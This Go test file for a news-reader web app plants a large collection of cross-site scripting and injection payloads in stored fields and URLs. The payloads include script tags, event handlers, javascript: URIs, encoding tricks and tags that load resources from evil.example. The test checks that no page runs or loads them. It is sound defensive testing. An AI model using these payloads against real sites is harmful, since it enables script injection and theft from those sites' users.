package web_test

import (
	"encoding/json"
	"encoding/xml"
	"fmt"
	"math"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"newsfold"

	xhtml "golang.org/x/net/html"
)

// vectors try to run a script, load something or leave their place in the page.
// Each calls the function caught, or asks evil.example.
func vectors() []string {
	list := []string{
		`<script>caught()</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script >caught()</script >`, `<scr<script>ipt>caught()</scr</script>ipt>`,
		`</title><script>caught()</script>`, `</textarea><script>caught()</script>`, `</script><script>caught()</script>`, `</style><script>caught()</script>`,
		`--><script>caught()</script>`, `]]><script>caught()</script>`, `<![CDATA[<script>caught()</script>]]>`, `<?xml version="1.0"?><script>caught()</script>`,
		`" onmouseover="caught()`, `' onfocus='caught()' autofocus='`, `" autofocus onfocus=caught() x="`, `"><script>caught()</script>`, `'><script>caught()</script>`,
		"` onclick=caught() `", `x onload=caught()`, `\"><script>caught()</script>`, `&#34; onmouseover=&#34;caught()`, `&quot;&gt;&lt;script&gt;caught()&lt;/script&gt;`,
		`javascript:caught()`, `JaVaScRiPt:caught()`, "java\tscript:caught()", "java\nscript:caught()", " javascript:caught()", "\x01javascript:caught()",
		`javascript&colon;caught()`, `javascript://evil.example/%0acaught()`, `data:text/html,<script>caught()</script>`, `data:text/html;base64,PHNjcmlwdD5jYXVnaHQoKTwvc2NyaXB0Pg==`,
		`vbscript:caught()`, `blob:https://evil.example/x`, `filesystem:https://evil.example/x`, `view-source:javascript:caught()`, `//evil.example/x`, `https:evil.example`,
		`https://evil.example/"onclick="caught()`, `https://evil.example/'><script>caught()</script>`, `http://user:pw@evil.example/`, `/story/1/mark`, `\\evil.example`,
		`{{7*7}}`, `{{.}}`, `{{template "layout"}}`, `${caught()}`, `<%= caught() %>`, `#{caught()}`, `{% caught() %}`,
		"\u202ecaught()", "\u2066<script>caught()</script>", "caught()\x00<script>", "\ufeff<script>caught()</script>", "\u2028caught()\u2029", "<scr\x00ipt>caught()</scr\x00ipt>",
		"+ADw-script+AD4-caught()+ADw-/script+AD4-", "%3Cscript%3Ecaught()%3C/script%3E", `\u003cscript\u003ecaught()\u003c/script\u003e`, `\x3cscript\x3ecaught()`,
	}
	for _, h := range []string{"onload", "onerror", "onclick", "onfocus", "onbegin", "onanimationstart", "ontoggle", "onpointerover", "onwheel", "onscroll"} {
		list = append(list,
			fmt.Sprintf(`<img src=https://evil.example/x.gif %s=caught()>`, h),
			fmt.Sprintf(`<svg %s=caught()><animate %s=caught() attributeName=x dur=1s></svg>`, h, h),
			fmt.Sprintf(`<details open %s=caught()><summary>x</summary></details>`, h),
		)
	}
	for _, tag := range []string{"iframe", "embed", "object", "frame", "video", "audio", "source", "track", "input type=image", "link rel=stylesheet", "link rel=prefetch", "link rel=import", "body background"} {
		list = append(list, fmt.Sprintf(`<%s src=//evil.example/ href=//evil.example/ data=//evil.example/ srcdoc="<script>parent.caught()</script>">`, tag))
	}
	return append(list,
		`<style>@import url(//evil.example/x.css);*{background:url(//evil.example/x)}</style>`, `<p style="background:url(//evil.example/x)">`, `<p style="position:fixed;inset:0">`,
		`<base href="//evil.example/">`, `<meta http-equiv="refresh" content="0;url=//evil.example/">`, `<meta http-equiv="Content-Security-Policy" content="x">`,
		`<form action="//evil.example/"><button>Read the original</button></form>`, `<form action="/mark" method="post" id="mark"><input name="ids" value="1"><button>More</button>`,
		`<button form="mark" formaction="/story/1/mark" name="do" value="read">x</button>`, `<input id="feed" form="mark" name="back" value="//evil.example">`, `<isindex action="//evil.example/">`,
		`<svg><script>caught()</script></svg>`, `<svg><a xlink:href="javascript:caught()"><text>x</text></a></svg>`, `<svg><use href="//evil.example/x.svg#a"></svg>`, `<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>`,
		`<math href="javascript:caught()">x</math>`, `<math><mi><!--</mi><img src=x onerror=caught()>-->`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=caught()&gt;">`,
		`<noscript><p title="</noscript><img src=x onerror=caught()>">`, `<template><script>caught()</script></template>`, `<xmp><script>caught()</script></xmp>`, `<plaintext>`, `<table><td><form><input>`,
		`</article></div></main></body></html><h1>News</h1>`, `<!--`, `<`, `<a`, `<a href="`, `<p id="main">x</p><p id="notice">y</p>`, `<dialog open>x</dialog>`, `<a href="https://evil.example/" ping="//evil.example/p" download>x</a>`,
		strings.Repeat("<b>", 3000)+"x", strings.Repeat("W", 3000), strings.Repeat("م", 3000), strings.Repeat("a\u0301", 3000),
	)
}

// hostile is a store in which every field of every noun is one of the vectors:
// for each of them a feed and three articles in two stories.
func hostile(vs []string) func(*filler) {
	return func(f *filler) {
		for i, v := range vs {
			poison(f, v, newsfold.ArticleID(3*i))
		}
	}
}

// poison adds the nouns for one vector after those of others.
func poison(f *filler, v string, last newsfold.ArticleID) {
	at := strconv.Itoa(int(last))
	feed := f.feed(newsfold.Feed{URL: at + v, Title: v, Name: v, Site: v, Lang: v, Folders: []string{v}, Poll: newsfold.Poll{
		Attempted: clock, Succeeded: clock, Next: clock, Why: v, Result: newsfold.Result(v), Error: v, Errors: 2, ETag: v,
	}})
	article := func(url string, with newsfold.ArticleID) newsfold.ArticleID {
		return f.article(newsfold.Article{
			URL: at + url + v, Link: v, Title: v, Byline: v, Outlet: v, Host: v, Lang: v, Dir: v, Image: v, Lede: v, Published: clock.Add(-1), Seen: clock,
			Entries: []newsfold.EntryRef{{Feed: feed, Key: url}},
			Origins: []newsfold.Origin{{Kind: v, Name: v, URL: v, Quote: v}, {Kind: "credit", Name: v, URL: v, Quote: v}},
			Page:    newsfold.Page{State: newsfold.PageState(v), Kind: v, Error: v, Words: 1},
			Fold: newsfold.Fold{
				Relation: newsfold.Relation(v), With: with, Score: math.NaN(),
				Evidence: []newsfold.Evidence{{Kind: v, Value: math.Inf(1), Detail: v}},
				Links:    []newsfold.Link{{Relation: newsfold.Relation(v), With: last + 3, Score: -7}},
			},
		}, newsfold.Body{Text: v + "\n\n" + v, HTML: v + "<p>" + v + "</p>"})
	}
	first := article("a", 0)
	f.fold(newsfold.Story{First: newsfold.Provenance{Article: first, Outlet: v, URL: v, Confidence: math.NaN(), Reason: v}}, first, article("b", first))
	f.fold(newsfold.Story{First: newsfold.Provenance{Outlet: v, URL: v, Confidence: -1, Reason: v}}, article("c", 9999))
}

// hostilePages are those that show a number of vectors.
func hostilePages(n int) []string {
	pages := []string{"/", "/feeds", "/?feed=1", "/feeds/1", "/add"}
	for i := range n {
		pages = append(pages, fmt.Sprintf("/story/%d", 3*i+1), fmt.Sprintf("/story/%d", 3*i+3), fmt.Sprintf("/story/%d/compare/%d", 3*i+1, 3*i+2))
	}
	return pages
}

func TestHostileFieldsStayText(t *testing.T) {
	all := vectors()
	if len(all) < 100 {
		t.Fatalf("%d vectors", len(all))
	}
	in, _ := locked(t, nil)
	for _, v := range all {
		for _, bad := range faults(t, in.get("/login?back="+escape(v)).body) {
			t.Errorf("%q in /login: %s", v, bad)
		}
	}
	for vs := range slices.Chunk(all, 25) { // at most a page of stories
		s := openWith(t, hostile(vs), gated(t, true))
		for _, path := range hostilePages(len(vs)) {
			page := s.get(path)
			if page.StatusCode != 200 {
				t.Errorf("%s has status %d\n%s", path, page.StatusCode, page.body)
				continue
			}
			for _, bad := range faults(t, page.body) {
				t.Errorf("%s of %q: %s", path, vs, bad)
			}
		}
		token := outToken(t, s)
		for format := range map[string]bool{"atom": true, "rss": true, "json": true} {
			page := s.get("/out?token=" + token + "&format=" + format)
			var v any
			err := json.Unmarshal([]byte(page.body), &v)
			if format != "json" {
				err = xml.Unmarshal([]byte(page.body), new(struct{}))
			}
			if page.StatusCode != 200 || err != nil {
				t.Errorf("as %s: %s, %v", format, page.Status, err)
			}
		}
		for _, v := range vs {
			for _, path := range []string{"/?feed=", "/?after=", "/?unread=", "/?undo=1&marked=", "/story/", "/static/", "/?find=", "/?folder=", "/?lang=", "/?did=", "/add?url=", "/feeds/", "/feeds?did=imported&n=", "/out?token="} {
				page := s.send("GET", path+escape(v), nil, nil)
				for _, bad := range faults(t, page.body) {
					t.Errorf("%q in %s: %s", v, path, bad)
				}
			}
		}
	}
}

func escape(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02X", c)
	}
	return b.String()
}

// faults lists what must not be on a page, whatever the fields hold.
func faults(t *testing.T, page string) (bad []string) {
	t.Helper()
	root, err := xhtml.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]int{}
	ids := map[string]bool{}
	for n := range root.Descendants() {
		if n.Type != xhtml.ElementNode {
			continue
		}
		count[n.Data]++
		if slices.Contains([]string{"iframe", "object", "embed", "style", "base", "img", "video", "audio", "frame", "math", "template", "noscript", "textarea", "plaintext", "foreignObject", "animate", "image"}, n.Data) {
			bad = append(bad, "has <"+n.Data+">")
		}
		for _, a := range n.Attr {
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "ping", a.Key == "srcdoc", a.Key == "http-equiv", a.Key == "autofocus":
				bad = append(bad, fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val))
			case a.Key == "id" && ids[a.Val]:
				bad = append(bad, "two elements have the id "+a.Val)
			case a.Key == "src" && !strings.HasPrefix(a.Val, "/static/"), a.Key == "action" && !strings.HasPrefix(a.Val, "/"), a.Key == "formaction" && !strings.HasPrefix(a.Val, "/story/"):
				bad = append(bad, fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val))
			case a.Key == "href" && get(n, "class") == "bookmarklet":
				if !bookmarklet.MatchString(a.Val) {
					bad = append(bad, fmt.Sprintf("bookmarklet %q", a.Val))
				}
			case a.Key == "href" && n.Data == "a" && !safe(a.Val):
				bad = append(bad, fmt.Sprintf("link to %q", a.Val))
			}
			if a.Key == "id" {
				ids[a.Val] = true
			}
		}
	}
	for _, once := range []string{"main", "title", "script", "body", "footer", "dialog", "h1"} {
		if count[once] != 1 {
			bad = append(bad, fmt.Sprintf("has %d <%s>", count[once], once))
		}
	}
	return bad
}

// bookmarklet is the one link that may hold a script: browsers keep it, and
// the policy stops it on our own pages.
var bookmarklet = regexp.MustCompile(`^javascript:location\.href=%22http://127\.0\.0\.1:\d+/add\?url=%22\+encodeURIComponent%28location\.href%29$`)

func safe(link string) bool {
	for _, p := range []string{"http://", "https://", "#"} {
		if strings.HasPrefix(link, p) {
			return true
		}
	}
	return strings.HasPrefix(link, "/") && !strings.HasPrefix(link, "//")
}

// TestHostileFieldsInABrowser shows every vector to a real browser: nothing may
// run, be loaded from elsewhere, or even be stopped by the policy only.
func TestHostileFieldsInABrowser(t *testing.T) {
	b := browse(t)
	b.call("Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "window.caught = () => { window.wasCaught = true }"}, nil)
	for vs := range slices.Chunk(vectors(), 25) {
		s := openWith(t, hostile(vs), gated(t, true))
		for _, path := range hostilePages(len(vs)) {
			b.visit(s.URL + path)
			if b.eval("window.wasCaught === true") == true {
				t.Errorf("%s ran something of %q", path, vs)
			}
			for _, c := range b.complaints(s.URL) {
				t.Errorf("%s of %q: %s", path, vs, c)
			}
		}
	}
}
